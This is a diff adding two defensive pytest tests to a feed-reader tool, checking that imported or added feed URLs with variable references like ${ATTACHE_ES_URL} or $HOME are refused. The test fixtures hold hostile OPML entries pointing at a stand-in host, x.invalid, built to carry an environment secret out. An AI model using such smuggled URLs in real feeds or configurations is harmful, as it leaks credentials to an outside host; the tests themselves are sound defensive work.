@@ -102,3 +102,28 @@ def test_adding_something_that_is_not_a_url_is_refused(tmp_path: Path) -> None:
     feeds.write_text("feeds: []\n")
     done = run({"ATTACHE_FEEDS_FILE": str(feeds)}, "add", "notaurl")
     assert done.returncode == 2 and "not an http(s) URL" in done.stderr
+
+
+def test_an_imported_feed_url_cannot_pull_a_secret_out_of_the_environment(tmp_path: Path) -> None:
+    feeds, opml = tmp_path / "feeds.yaml", tmp_path / "hostile.opml"
+    feeds.write_text("feeds: []\n")
+    opml.write_text('<?xml version="1.0"?><opml version="2.0"><head/><body>'
+                    '<outline text="ok" xmlUrl="https://news.example.org/rss"/>'
+                    '<outline text="thief" xmlUrl="https://x.invalid/rss?k=${ATTACHE_ES_URL}"/>'
+                    '<outline text="thief2" xmlUrl="https://x.invalid/$HOME/rss"/>'
+                    "</body></opml>")
+    secret = "https://elastic:s3cr3t@es.example.org:9200"
+    done = run({"ATTACHE_FEEDS_FILE": str(feeds), "ATTACHE_ES_URL": secret}, "import", str(opml))
+    assert "thief" not in feeds.read_text() and "x.invalid" not in feeds.read_text()
+    assert "https://news.example.org/rss" in feeds.read_text()  # the honest feed is still imported
+    assert "refused" in done.stderr and "$" in done.stderr, done.stderr
+    assert all(secret not in feed.url for feed in load_feeds(feeds))
+
+
+def test_adding_a_url_with_a_variable_reference_is_refused(tmp_path: Path) -> None:
+    feeds = tmp_path / "feeds.yaml"
+    feeds.write_text("feeds: []\n")
+    done = run({"ATTACHE_FEEDS_FILE": str(feeds), "ATTACHE_ES_URL": "http://u:pw@es:9200"},
+               "add", "https://x.invalid/rss?k=${ATTACHE_ES_URL}")
+    assert done.returncode == 2 and "$" in done.stderr, done.stderr
+    assert load_feeds(feeds) == []
